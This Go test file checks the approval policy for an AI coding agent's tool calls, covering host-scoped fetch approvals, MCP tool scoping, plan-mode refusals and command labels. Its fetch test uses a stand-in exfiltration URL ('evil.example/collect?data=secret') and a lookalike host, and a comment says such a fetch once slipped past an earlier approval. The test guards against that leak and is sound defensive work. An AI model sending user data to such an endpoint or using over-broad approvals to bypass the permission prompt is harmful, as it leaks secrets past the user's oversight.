package session

import (
	"encoding/json"
	"net/url"
	"testing"

	"github.com/cline-ls/cline-ls/tools"
)

func mustURLs(t *testing.T, raw ...string) []*url.URL {
	t.Helper()
	var out []*url.URL
	for _, r := range raw {
		u, err := url.Parse(r)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, u)
	}
	return out
}

// TestAlwaysOnAFetchIsTheHost: "always allow" on a fetch covers the
// hosts fetched, not the tool: another host's /collect?data=… went
// through once one host had been allowed.
func TestAlwaysOnAFetchIsTheHost(t *testing.T) {
	fetch := func(urls ...string) PolicyCall {
		return PolicyCall{Tool: tools.NameFetchWebContent, Kind: tools.KindFetch, Mode: tools.ModeAct, URLs: mustURLs(t, urls...)}
	}
	p := mustPolicy(t, PolicyConfig{})
	first := fetch("https://docs.example.com/a")
	if got := ScopeFor(first).Label; got != "fetches from docs.example.com" {
		t.Errorf("label %q", got)
	}
	if err := p.Remember(first, Allow); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		urls []string
		want Decision
	}{
		{[]string{"https://docs.example.com/b?q=1"}, Allow},
		{[]string{"http://DOCS.example.com/c"}, Allow},
		{[]string{"https://evil.example/collect?data=secret"}, Ask},
		{[]string{"https://docs.example.com.evil.example/"}, Ask},
		{[]string{"https://docs.example.com/b", "https://evil.example/collect"}, Ask},
	} {
		if got := p.Decide(fetch(tc.urls...)); got != tc.want {
			t.Errorf("%v: %s, want %s", tc.urls, got, tc.want)
		}
	}
	if err := p.Remember(fetch("https://evil.example/x"), Deny); err != nil {
		t.Fatal(err)
	}
	if got := p.Decide(fetch("https://docs.example.com/b", "https://evil.example/y")); got != Deny {
		t.Errorf("a fetch with a rejected host among its pages: %s, want deny", got)
	}
}

// TestAlwaysOnTheGenericMCPToolIsTheServerTool: "always" on use_mcp_tool
// covers the server and tool named, not every MCP tool of every server.
func TestAlwaysOnTheGenericMCPToolIsTheServerTool(t *testing.T) {
	use := func(args string) PolicyCall {
		return PolicyCall{Tool: tools.NameUseMCPTool, Kind: tools.KindOther, Mode: tools.ModeAct, Args: json.RawMessage(args)}
	}
	p := mustPolicy(t, PolicyConfig{})
	first := use(`{"server_name":"docs","tool_name":"search","arguments":{"q":"x"}}`)
	if got := ScopeFor(first).Label; got != "the MCP tool search of docs" {
		t.Errorf("label %q", got)
	}
	p.Remember(first, Allow)
	for args, want := range map[string]Decision{
		`{"server_name":"docs","tool_name":"search","arguments":{"q":"y"}}`: Allow,
		`{"server_name":"docs","tool_name":"delete"}`:                       Ask,
		`{"server_name":"shell","tool_name":"search"}`:                      Ask,
	} {
		if got := p.Decide(use(args)); got != want {
			t.Errorf("%s: %s, want %s", args, got, want)
		}
	}
	// A server's own tool is scoped to that tool.
	own := PolicyCall{Tool: "docs__mcp__search", Kind: tools.KindOther, Mode: tools.ModeAct}
	p.Remember(own, Allow)
	if got := p.Decide(PolicyCall{Tool: "docs__mcp__delete", Kind: tools.KindOther, Mode: tools.ModeAct}); got != Ask {
		t.Errorf("another tool of the server: %s, want ask", got)
	}
	if got := p.Decide(own); got != Allow {
		t.Errorf("the tool allowed: %s", got)
	}
}

// TestAlwaysOnAnEditWithoutPathsIsTheCall: an edit whose description
// names no file is covered only as the exact same call.
func TestAlwaysOnAnEditWithoutPathsIsTheCall(t *testing.T) {
	p := mustPolicy(t, PolicyConfig{})
	c := PolicyCall{Tool: tools.NameEditor, Kind: tools.KindEdit, Mode: tools.ModeAct, Args: json.RawMessage(`{"path":"a"}`)}
	p.Remember(c, Allow)
	if got := p.Decide(c); got != Allow {
		t.Errorf("the same call: %s", got)
	}
	c.Args = json.RawMessage(`{"path":"b"}`)
	if got := p.Decide(c); got != Ask {
		t.Errorf("another call: %s, want ask", got)
	}
}

// TestModeRefusal: plan mode refuses edits and programs it cannot check,
// whoever asks (the scheduler, or the policy directly).
func TestModeRefusal(t *testing.T) {
	p := mustPolicy(t, PolicyConfig{Approvals: Approvals{Edit: Allow, Execute: Allow}})
	for _, c := range []PolicyCall{
		{Tool: tools.NameWriteToFile, Kind: tools.KindEdit},
		{Tool: "mover", Kind: tools.KindMove},
		{Tool: "shell", Kind: tools.KindExecute, Args: json.RawMessage(`{"cmd":"touch x"}`)},
		{Tool: tools.NameRunCommands, Kind: tools.KindExecute, Commands: []string{}},
		{Tool: tools.NameRunCommands, Kind: tools.KindExecute, Commands: []string{"ls", "touch x"}},
	} {
		c.Mode = tools.ModePlan
		if ModeRefusal(c) == nil || p.Decide(c) != Deny {
			t.Errorf("%s %v in plan mode: not refused", c.Tool, c.Commands)
		}
		c.Mode = tools.ModeAct
		if err := ModeRefusal(c); err != nil {
			t.Errorf("%s in act mode: %v", c.Tool, err)
		}
	}
	if err := ModeRefusal(PolicyCall{Tool: tools.NameRunCommands, Kind: tools.KindExecute, Mode: tools.ModePlan, Commands: []string{"ls"}}); err != nil {
		t.Errorf("ls in plan mode: %v", err)
	}
}

func TestCanonicalJSON(t *testing.T) {
	for raw, want := range map[string]string{
		`{"b":1,"a":"<x>"}`:          `{"a":"<x>","b":1}`,
		`{"a":1,"a":2}`:              `{"a":2}`,
		`{"n":12345678901234567890}`: `{"n":12345678901234567890}`,
		"{\n \"a\" : [1, 2]\n}":      `{"a":[1,2]}`,
	} {
		if got := canonicalJSON(json.RawMessage(raw)); got != want {
			t.Errorf("canonicalJSON(%s) = %s, want %s", raw, got, want)
		}
	}
}

// TestPlanModeAsksBeforeMCPTools: an MCP tool may change anything, so in
// plan mode a call the settings allow is asked about; a rule naming plan
// mode still allows it, and reading a resource is not a tool call.
func TestPlanModeAsksBeforeMCPTools(t *testing.T) {
	p := mustPolicy(t, PolicyConfig{Approvals: Approvals{MCP: Allow}, Rules: []Rule{
		{Tool: "docs__mcp__search", Decision: Allow, Modes: []string{tools.ModePlan}},
	}})
	for tool, want := range map[string]Decision{
		"fs__mcp__write":            Ask,
		tools.NameUseMCPTool:        Ask,
		"docs__mcp__search":         Allow,
		tools.NameAccessMCPResource: Allow,
	} {
		c := PolicyCall{Tool: tool, Kind: tools.KindOther, Mode: tools.ModePlan, Args: json.RawMessage(`{}`)}
		if got := p.Explain(c); got.Decision != want {
			t.Errorf("%s in plan mode: %s (%s), want %s", tool, got.Decision, got.Reason, want)
		}
		c.Mode = tools.ModeAct
		if got := p.Decide(c); got != Allow {
			t.Errorf("%s in act mode: %s, want allow", tool, got)
		}
	}
}

func TestScopeLabelOfManyParts(t *testing.T) {
	c := PolicyCall{Tool: tools.NameRunCommands, Kind: tools.KindExecute, Commands: []string{"go test; go vet; ls; pwd; make all"}}
	if got := ScopeFor(c).Label; got != "go test …, go vet …, ls and 2 more" {
		t.Errorf("label %q", got)
	}
	p := mustPolicy(t, PolicyConfig{})
	p.Remember(c, Allow)
	if got := p.Decide(PolicyCall{Tool: tools.NameRunCommands, Kind: tools.KindExecute, Commands: []string{"make all"}}); got != Allow {
		t.Errorf("a part not named in the label but covered: %s", got)
	}
}

// BenchmarkExplainCommand is the price of judging a command line part by
// part, per call.
func BenchmarkExplainCommand(b *testing.B) {
	p, _ := NewPolicy(PolicyConfig{Rules: []Rule{{Tool: tools.NameRunCommands, ArgPattern: "^go test", Decision: Allow}, {Tool: "*", ArgPattern: "^rm ", Decision: Deny}}})
	c := PolicyCall{Tool: tools.NameRunCommands, Kind: tools.KindExecute, Mode: tools.ModeAct,
		Commands: []string{"go test ./... 2>&1 | tail -20 && go vet ./session"}}
	for b.Loop() {
		p.Explain(c)
	}
}
